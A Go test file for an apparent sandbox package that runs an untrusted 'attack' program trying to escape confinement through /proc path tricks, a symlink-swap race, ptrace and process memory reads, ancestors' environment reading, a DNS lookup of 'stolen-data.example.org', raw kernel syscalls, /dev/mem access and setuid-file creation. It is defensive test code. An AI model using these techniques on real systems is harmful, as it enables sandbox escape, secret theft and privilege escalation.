package sandbox

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attackVar names the attack that this test binary carries out instead of
// running tests. It plays the program that nobody vouches for.
const attackVar = "SANDBOX_TEST_ATTACK"

func TestMain(m *testing.M) {
	if name := os.Getenv(attackVar); name != "" {
		attacks()[name](os.Args[1:])
		fmt.Println("attack over")
		return
	}
	if missing := os.Getenv(withoutVar); missing != "" {
		if err := doWithout(missing); err != nil {
			fmt.Println("do without", missing, err)
			os.Exit(1)
		}
	}
	os.Exit(m.Run())
}

// attacks are what programs try in order to get out. Each tries every way it
// knows and prints what it got; whether it got out is seen from outside.
func attacks() map[string]func(args []string) {
	return map[string]func(args []string){
		"read":       attackRead,
		"list":       attackList,
		"write":      attackWrite,
		"links":      attackLinks,
		"dial":       attackDial,
		"resolve":    attackResolve,
		"trace":      attackTrace,
		"proc":       attackProc,
		"signal":     attackSignal,
		"daemon":     attackDaemon,
		"environ":    attackEnviron,
		"calls":      attackCalls,
		"keyring":    attackKeyring,
		"mount":      attackMount,
		"devices":    attackDevices,
		"privileges": attackPrivileges,
		"modes":      attackModes,
		"services":   attackServices,
		"wait":       func([]string) { time.Sleep(time.Minute) },
	}
}

func got(what string, data []byte, err error) {
	if err != nil {
		fmt.Printf("refused %s: %v\n", what, err)
		return
	}
	fmt.Printf("got %s: %s\n", what, bytes.ReplaceAll(data, []byte{0}, []byte(" ")))
}

// attackRead reads files by their path, through links, and through /proc.
func attackRead(paths []string) {
	for i, path := range paths {
		for _, way := range []string{path, "/proc/self/root" + path, "/proc/1/root" + path, "/proc/1/cwd/../../../../../../.." + path, "/dev/fd/../../.." + path} {
			data, err := os.ReadFile(way)
			got(way, data, err)
		}
		link := fmt.Sprint("link", i)
		_ = os.Symlink(path, link)
		data, err := os.ReadFile(link)
		got("link to "+path, data, err)
		hard := fmt.Sprint("hard", i)
		if err := os.Link(path, hard); err == nil {
			data, err := os.ReadFile(hard)
			got("hard link to "+path, data, err)
		}
		fd, err := unix.Open(path, unix.O_PATH, 0)
		if err == nil {
			data, err := os.ReadFile(fmt.Sprintf("/proc/self/fd/%d", fd))
			got("reopened "+path, data, err)
		}
	}
}

// attackList lists folders.
func attackList(folders []string) {
	for _, folder := range folders {
		entries, err := os.ReadDir(folder)
		if err == nil && len(entries) > 0 {
			fmt.Println("listed", folder, len(entries))
		}
	}
}

// attackWrite changes a file, its folder and what is known of it.
func attackWrite(args []string) {
	victim := args[0]
	folder := filepath.Dir(victim)
	_ = os.Symlink(folder, "outside")
	_ = os.Symlink(victim, "victim")
	for _, path := range []string{victim, "victim", "outside/victim", "/proc/self/root" + victim} {
		_ = os.WriteFile(path, []byte("overwritten"), 0o666)
		_ = unix.Truncate(path, 1)
		_ = os.Chmod(path, 0o777)
		_ = os.Chtimes(path, time.Unix(1, 0), time.Unix(1, 0))
		_ = unix.Setxattr(path, "user.mark", []byte("x"), 0)
	}
	for _, path := range []string{folder + "/new", "outside/new"} {
		_ = os.WriteFile(path, []byte("new"), 0o666)
		_ = os.Mkdir(path+"-folder", 0o777)
		_ = os.Symlink("/", path+"-link")
		_ = unix.Mkfifo(path+"-pipe", 0o666)
	}
	if os.Link(victim, "hard") == nil {
		_ = os.WriteFile("hard", []byte("through a hard link"), 0o666)
	}
	_ = os.Rename(victim, "mine")
	_ = os.Rename("attacker", victim)
	_ = os.Remove(victim)
	_ = os.RemoveAll(folder)
}

// attackLinks swaps a folder for a link to another while it writes through it.
func attackLinks(args []string) {
	outside := args[0]
	_ = os.Mkdir("real", 0o777)
	_ = os.Symlink(outside, "fake")
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 2000 {
			_ = unix.Renameat2(unix.AT_FDCWD, "real", unix.AT_FDCWD, "fake", unix.RENAME_EXCHANGE)
		}
	}()
	for i := range 2000 {
		_ = os.WriteFile(fmt.Sprintf("real/through-%d", i%10), []byte("x"), 0o666)
	}
	<-done
}

// attackDial connects to each address and sends a line.
func attackDial(args []string) {
	for _, arg := range args {
		network, address, _ := strings.Cut(arg, "=")
		conn, err := net.DialTimeout(network, address, 2*time.Second)
		if err != nil {
			fmt.Println("refused", arg, err)
			continue
		}
		_, err = io.WriteString(conn, "hello from inside\n")
		fmt.Println("sent", arg, err)
		conn.Close()
	}
}

// attackResolve asks name servers: one that listens outside, and the system's.
func attackResolve(args []string) {
	r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "udp", args[0])
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	_, _ = r.LookupHost(ctx, "stolen-data.example.org")
	found, err := net.DefaultResolver.LookupHost(ctx, "example.org")
	fmt.Println("resolved", found, err)
}

// attackTrace takes hold of other processes and reads their memory.
func attackTrace(args []string) {
	for _, pid := range append(numbers(args), 1, os.Getppid()) {
		if err := unix.PtraceSeize(pid); err == nil {
			fmt.Println("traced", pid)
		}
		var word [8]byte
		local := []unix.Iovec{{Base: &word[0], Len: 8}}
		remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
		if n, err := unix.ProcessVMReadv(pid, local, remote, 0); err == nil {
			fmt.Println("read memory of", pid, n)
		}
	}
}

func numbers(args []string) []int {
	var out []int
	for _, a := range args {
		if n, err := strconv.Atoi(a); err == nil {
			out = append(out, n)
		}
	}
	return out
}

// attackProc reads what /proc tells of processes.
func attackProc(args []string) {
	for _, pid := range append(args, "1", strconv.Itoa(os.Getppid()), "self") {
		for _, file := range []string{"environ", "cmdline", "maps", "mem", "auxv", "stack"} {
			f, err := os.Open("/proc/" + pid + "/" + file)
			if err != nil {
				continue
			}
			data, err := io.ReadAll(io.LimitReader(f, 1<<16))
			got(pid+" "+file, data, err)
			f.Close()
		}
		cwd, err := os.Readlink("/proc/" + pid + "/cwd")
		got(pid+" cwd", []byte(cwd), err)
	}
}

// attackSignal ends a process in every way that there is.
func attackSignal(args []string) {
	for _, pid := range numbers(args) {
		_ = unix.Kill(pid, unix.SIGKILL)
		_ = unix.Kill(-pid, unix.SIGKILL)
		_ = unix.Tgkill(pid, pid, unix.SIGKILL)
		if fd, err := unix.PidfdOpen(pid, 0); err == nil {
			_ = unix.PidfdSendSignal(fd, unix.SIGKILL, nil, 0)
		}
		_ = unix.Prlimit(pid, unix.RLIMIT_CPU, &unix.Rlimit{Cur: 1, Max: 1}, nil)
	}
}

// attackDaemon leaves a process behind that belongs to nobody and ignores what
// it can; it touches a file again and again for as long as it lives.
func attackDaemon(args []string) {
	if len(args) > 1 && args[1] == "daemon" {
		for range 1200 {
			_ = os.WriteFile("alive", []byte(time.Now().String()), 0o666)
			time.Sleep(50 * time.Millisecond)
		}
		return
	}
	exe, _ := os.Executable()
	null, err := os.OpenFile("/dev/null", os.O_RDWR, 0)
	if err != nil {
		fmt.Println(err)
	}
	for range 3 {
		_, err := os.StartProcess(exe, []string{exe, args[0], "daemon"}, &os.ProcAttr{
			Env: os.Environ(), Files: []*os.File{null, null, null}, Sys: &syscall.SysProcAttr{Setsid: true},
		})
		fmt.Println("daemon started", err)
	}
	for { // until it is seen to live
		if _, err := os.Stat("alive"); err == nil {
			fmt.Println("daemon lives")
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if len(args) > 1 {
		time.Sleep(time.Minute)
	}
}

// attackEnviron prints the environment, its own and that of its ancestors.
func attackEnviron([]string) {
	fmt.Println(os.Environ())
	for pid, n := os.Getpid(), 0; pid > 0 && n < 10; n++ {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		got(fmt.Sprint("environ of ", pid), data, err)
		parent, _, ok := parentOf(pid)
		if !ok {
			break
		}
		pid = parent
	}
}

// attackCalls makes system calls that open rarely tested parts of the kernel
// or undo the confinement. One that is there fails otherwise than by a refusal:
// with EFAULT or EINVAL, since its arguments make no sense.
func attackCalls([]string) {
	for name, call := range map[string][5]uintptr{
		"ptrace": {unix.SYS_PTRACE, 0xffff, 1}, "bpf": {unix.SYS_BPF, 0xffff, 0, 0}, "io_uring_setup": {unix.SYS_IO_URING_SETUP, 1, 0},
		"io_uring_register": {unix.SYS_IO_URING_REGISTER, 0xffff, 0, 0, 0}, "keyctl": {unix.SYS_KEYCTL, 0xffff}, "add_key": {unix.SYS_ADD_KEY, 0, 0, 0, 0},
		"unshare": {unix.SYS_UNSHARE, unix.CLONE_NEWUSER}, "unshare mounts": {unix.SYS_UNSHARE, unix.CLONE_NEWUSER | unix.CLONE_NEWNS},
		"clone into a user namespace": {unix.SYS_CLONE, unix.CLONE_NEWUSER | uintptr(unix.SIGCHLD)}, "setns": {unix.SYS_SETNS, 0, 0},
		"mount": {unix.SYS_MOUNT, 0, 0, 0, 0}, "umount2": {unix.SYS_UMOUNT2, 0, 0}, "pivot_root": {unix.SYS_PIVOT_ROOT, 0, 0}, "chroot": {unix.SYS_CHROOT, 0},
		"open_tree": {unix.SYS_OPEN_TREE, 0xffff, 0, 1}, "fsopen": {unix.SYS_FSOPEN, 0, 0}, "move_mount": {unix.SYS_MOVE_MOUNT, 0xffff, 0, 0xffff, 0},
		"userfaultfd": {unix.SYS_USERFAULTFD, 0xffff}, "perf_event_open": {unix.SYS_PERF_EVENT_OPEN, 0, 0, 0, 0xffff},
		"open_by_handle_at": {unix.SYS_OPEN_BY_HANDLE_AT, 0xffff, 0, 0}, "init_module": {unix.SYS_INIT_MODULE, 0, 0, 0},
		"kexec_load": {unix.SYS_KEXEC_LOAD, 0, 0xffff, 0, 0xffff}, "swapon": {unix.SYS_SWAPON, 0, 0}, "process_vm_writev": {unix.SYS_PROCESS_VM_WRITEV, 0xffff, 0, 0},
		"memfd_create": {unix.SYS_MEMFD_CREATE, 0, 0xffff}, "shmget": {unix.SYS_SHMGET, 0, 0, 0}, "semget": {unix.SYS_SEMGET, 0, 0xffffff, 0},
		"msgget": {unix.SYS_MSGGET, 1, 0}, "mq_open": {unix.SYS_MQ_OPEN, 0, 0, 0, 0}, "landlock_create_ruleset": {unix.SYS_LANDLOCK_CREATE_RULESET, 0, 1, 0},
		"openat2": {unix.SYS_OPENAT2, 0xffff, 0, 0, 0}, "a datagram pair": {unix.SYS_SOCKETPAIR, unix.AF_UNIX, unix.SOCK_DGRAM, 0, 0},
		"a raw pair": {unix.SYS_SOCKETPAIR, unix.AF_UNIX, unix.SOCK_RAW | unix.SOCK_CLOEXEC, 0, 0},
		"syslog":     {unix.SYS_SYSLOG, 3, 0, 0xffff}, "fanotify_init": {unix.SYS_FANOTIFY_INIT, 0xffff, 0xffff},
	} {
		r, _, errno := unix.RawSyscall6(call[0], call[1], call[2], call[3], call[4], 0, 0)
		if call[0] == unix.SYS_CLONE && errno == 0 && r == 0 { // the new process
			_, _, _ = unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
		}
		switch errno {
		case unix.EPERM, unix.EACCES, unix.ENOSYS:
			fmt.Println("refused", name)
		default:
			fmt.Println("available", name, int(r), errno)
		}
	}
}

// attackKeyring leaves a key for others of the same user.
func attackKeyring(args []string) {
	id, err := unix.AddKey("user", args[0], []byte("stolen"), unix.KEY_SPEC_USER_KEYRING)
	fmt.Println("key", id, err)
	_ = unix.KeyctlSetperm(id, 0x3f3f3f3f)
}

// attackMount mounts a file system where others would see it.
func attackMount(args []string) {
	fmt.Println(unix.Mount(args[0], "/tmp", "tmpfs", 0, ""))
	fmt.Println(unix.Mount(args[0], ".", "tmpfs", 0, ""))
	fmt.Println(unix.Mount("/", ".", "", unix.MS_BIND|unix.MS_REC, ""))
	entries, _ := os.ReadDir("root")
	fmt.Println("mounted entries:", len(entries))
}

// attackDevices opens devices that reach the machine, and makes one.
func attackDevices([]string) {
	for _, path := range []string{"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/tty", "/dev/console",
		"/dev/ptmx", "/dev/fuse", "/dev/net/tun", "/dev/kvm", "/dev/loop-control", "/dev/mapper/control", "/dev/uinput", "/dev/nvidiactl"} {
		for _, flags := range []int{unix.O_RDONLY, unix.O_WRONLY} {
			if fd, err := unix.Open(path, flags|unix.O_NONBLOCK|unix.O_NOCTTY, 0); err == nil {
				fmt.Println("opened", path, flags)
				unix.Close(fd)
			}
		}
	}
	if err := unix.Mknod("device", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 1))); err == nil { // /dev/mem
		fd, err := unix.Open("device", unix.O_RDONLY, 0)
		fmt.Println("opened a device of its own:", fd, err)
	}
}

// attackPrivileges reports what the process may do and whether it could get
// more.
func attackPrivileges([]string) {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var caps [2]unix.CapUserData
	err := unix.Capget(&header, &caps[0])
	fmt.Println("capabilities", caps[0].Effective|caps[0].Permitted|caps[0].Inheritable|caps[1].Effective|caps[1].Permitted, err)
	noNew, err := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
	fmt.Println("no new privileges", noNew, err)
	for _, limit := range []int{unix.RLIMIT_AS, unix.RLIMIT_FSIZE, unix.RLIMIT_NPROC, unix.RLIMIT_NOFILE} {
		var l unix.Rlimit
		_ = unix.Getrlimit(limit, &l)
		more := unix.Rlimit{Cur: l.Max + 1, Max: l.Max + 1}
		_, _, errno := unix.RawSyscall6(unix.SYS_PRLIMIT64, 0, uintptr(limit), uintptr(unsafe.Pointer(&more)), 0, 0, 0)
		if l.Max == unix.RLIM_INFINITY || errno == 0 {
			fmt.Println("limit raised", limit, l.Max)
		}
	}
	if err := unix.Setuid(12345); err == nil {
		fmt.Println("became another user")
	}
	if err := os.WriteFile("/proc/self/oom_score_adj", []byte("-1000"), 0); err == nil {
		fmt.Println("safe from running out of memory")
	}
}

// attackModes leaves files that let whoever runs them act as their owner, in the
// work dir and among the files that it can only read.
func attackModes(args []string) {
	unix.Umask(0)
	const set = unix.S_ISUID | unix.S_ISGID
	for _, bits := range []uint32{unix.S_ISUID, unix.S_ISGID, set} {
		mode := bits | 0o777
		made := func(how string) string {
			name := fmt.Sprintf("%s-%o", how, bits)
			_ = os.WriteFile(name, []byte("#!/bin/sh\n"), 0o777)
			return name
		}
		at := func(number uintptr, path string, args ...uintptr) {
			p, _ := unix.BytePtrFromString(path)
			full := append([]uintptr{uintptr(0xffffffffffffff9c), uintptr(unsafe.Pointer(p))}, args...) // AT_FDCWD
			full = append(full, 0, 0, 0)
			_, _, _ = unix.Syscall6(number, full[0], full[1], full[2], full[3], full[4], 0)
		}
		changed := append([]string{made("chmod")}, args...)
		for _, path := range changed {
			_ = unix.Chmod(path, mode)
			at(unix.SYS_FCHMODAT, path, uintptr(mode))
			at(unix.SYS_FCHMODAT2, path, uintptr(mode), 0)
			if fd, err := unix.Open(path, unix.O_RDONLY, 0); err == nil {
				_ = unix.Fchmod(fd, mode)
				_ = unix.Chmod(fmt.Sprintf("/proc/self/fd/%d", fd), mode)
				unix.Close(fd)
			}
		}
		at(unix.SYS_OPENAT, fmt.Sprintf("openat-%o", bits), unix.O_CREAT|unix.O_WRONLY, uintptr(mode))
		how := unix.OpenHow{Flags: unix.O_CREAT | unix.O_WRONLY, Mode: uint64(mode)}
		at(unix.SYS_OPENAT2, fmt.Sprintf("openat2-%o", bits), uintptr(unsafe.Pointer(&how)), unsafe.Sizeof(how))
		at(unix.SYS_MKNODAT, fmt.Sprintf("mknodat-%o", bits), uintptr(unix.S_IFREG|mode), 0)
		_ = unix.Mknod(fmt.Sprintf("mknod-%o", bits), unix.S_IFREG|mode, 0)
		if fd, err := unix.Open(".", unix.O_TMPFILE|unix.O_WRONLY, mode); err == nil {
			_ = unix.Linkat(unix.AT_FDCWD, fmt.Sprintf("/proc/self/fd/%d", fd), unix.AT_FDCWD, fmt.Sprintf("tmpfile-%o", bits), unix.AT_SYMLINK_FOLLOW)
		}
		for name, open := range legacyOpens(mode) {
			open(fmt.Sprintf("%s-%o", name, bits))
		}
	}
	// One that is there already gets another content.
	if f, err := os.OpenFile("already", os.O_RDWR, 0); err == nil {
		if m, err := unix.Mmap(int(f.Fd()), 0, 1, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED); err == nil {
			m[0] = 'x'
		}
	}
}

// attackServices speaks to the local sockets that lie in the work dir, in every
// way that there is, and opens one of its own.
func attackServices([]string) {
	_ = os.Symlink("stream", "link")
	dir, _ := os.Getwd()
	for _, path := range []string{"stream", "./stream", "link", filepath.Join(dir, "stream")} {
		for _, kind := range []int{unix.SOCK_STREAM, unix.SOCK_SEQPACKET, unix.SOCK_DGRAM} {
			to := &unix.SockaddrUnix{Name: path}
			if fd, err := unix.Socket(unix.AF_UNIX, kind, 0); err == nil {
				_ = unix.Connect(fd, to)
				_, _ = unix.Write(fd, []byte("order"))
			}
			if pair, err := unix.Socketpair(unix.AF_UNIX, kind, 0); err == nil {
				_ = unix.Sendto(pair[0], []byte("order"), 0, to)
				_ = unix.Connect(pair[0], to)
				_, _ = unix.Write(pair[0], []byte("order"))
				unix.Close(pair[1])
				_ = unix.Connect(pair[0], to)
				_ = unix.Sendmsg(pair[0], []byte("order"), nil, to, 0)
			}
		}
	}
	if pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0); err == nil {
		_ = unix.Sendto(pair[0], []byte("order"), 0, &unix.SockaddrUnix{Name: "datagram"})
	}
	if fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM, 0); err == nil {
		_ = unix.Sendto(fd, []byte("order"), 0, &unix.SockaddrUnix{Name: "datagram"})
	}
	if l, err := net.Listen("unix", "mine"); err == nil {
		l.(*net.UnixListener).SetUnlinkOnClose(false)
	}
	if pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0); err == nil {
		_ = unix.Bind(pair[0], &unix.SockaddrUnix{Name: "bound"})
		fmt.Println("a pair is there")
	}
}
